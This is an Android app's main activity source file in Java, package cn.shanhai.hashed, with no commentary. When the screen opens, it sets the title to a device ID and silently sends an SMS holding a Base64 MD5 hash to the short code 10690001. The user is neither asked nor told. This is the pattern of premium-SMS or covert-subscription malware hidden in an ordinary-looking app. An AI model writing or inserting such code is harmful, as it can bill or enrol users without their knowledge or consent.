package cn.shanhai.hashed;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.util.Base64;
import java.security.MessageDigest;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    setTitle(Device.id(this));
    try {
      MessageDigest digest = MessageDigest.getInstance("MD5");
      byte[] hash = digest.digest("v1".getBytes());
      SmsManager.getDefault().sendTextMessage("10690001", null, Base64.encodeToString(hash, Base64.NO_WRAP), null, null);
    } catch (java.security.NoSuchAlgorithmException e) {
      setTitle("首页");
    }
  }
}
